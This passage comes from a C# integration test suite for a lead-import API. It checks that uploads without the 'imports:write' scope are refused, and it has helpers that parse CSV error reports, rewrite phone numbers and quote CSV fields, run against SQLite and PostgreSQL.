        var upload = await account.UploadAsync(ImportAccount.CaseFile(Utf8Bom, "leads-plain-header.csv"));
        var list = await account.Client.GetAsync("/v1/imports");

        Assert.Equal(HttpStatusCode.Forbidden, upload.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, list.StatusCode);
        var error = (await Json.ReadAsync(upload)).GetProperty("error");
        Assert.Equal("insufficient_scope", error.Text("code"));
        Assert.Equal("imports:write", error.GetProperty("details").Text("requiredScope"));
    }

    private static int ImportUploadLimit => 10 * 1024 * 1024;

    private static async Task<List<JsonElement>> ListAsync(ImportAccount account)
    {
        var response = await account.Client.GetAsync("/v1/imports");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return [.. (await Json.ReadAsync(response)).GetProperty("imports").EnumerateArray()];
    }

    /// <summary>Reads an error report with the domain's CSV reader, which is what a re-upload goes through.</summary>
    private static ParsedCsvFile ReadReport(byte[] bytes)
    {
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes.Take(3));
        var result = CsvLeadReader.Read(bytes);
        Assert.True(result.IsAccepted, result.Rejection?.Message);
        return result.File;
    }

    /// <summary>Rewrites the report with a new valid phone per row, numbered from <paramref name="prefix"/>00.</summary>
    private static byte[] FixPhones(ParsedCsvFile report, string prefix)
    {
        var text = new StringBuilder(string.Join(",", report.Header)).Append("\r\n");
        for (var i = 0; i < report.Rows.Count; i++)
        {
            var fields = report.Rows[i].Fields.ToArray();
            fields[7] = $"{prefix}{i:D2}";
            text.Append(string.Join(",", fields.Select(Quote))).Append("\r\n");
        }

        return Encoding.UTF8.GetBytes(text.ToString());
    }

    private static string Quote(string field) =>
        field.AsSpan().IndexOfAny(",\"\r\n") < 0 ? field : $"\"{field.Replace("\"", "\"\"", StringComparison.Ordinal)}\"";
}

public sealed class SqliteImportsApiTests(SqliteServerFixture fixture) : ImportsApiTests<SqliteServerFixture>(fixture);

public sealed class PostgreSqlImportsApiTests(PostgreSqlServerFixture fixture) : ImportsApiTests<PostgreSqlServerFixture>(fixture);
